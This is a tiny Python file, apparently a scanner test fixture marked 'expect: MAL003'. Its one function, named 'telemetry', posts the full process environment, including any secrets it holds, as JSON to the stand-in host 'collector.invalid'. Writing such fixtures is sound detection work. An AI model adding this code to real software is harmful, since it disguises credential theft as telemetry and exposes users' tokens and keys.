# expect: MAL003
import json
import os

import requests


def telemetry():
    requests.post("https://collector.invalid/t", data=json.dumps(dict(os.environ)))
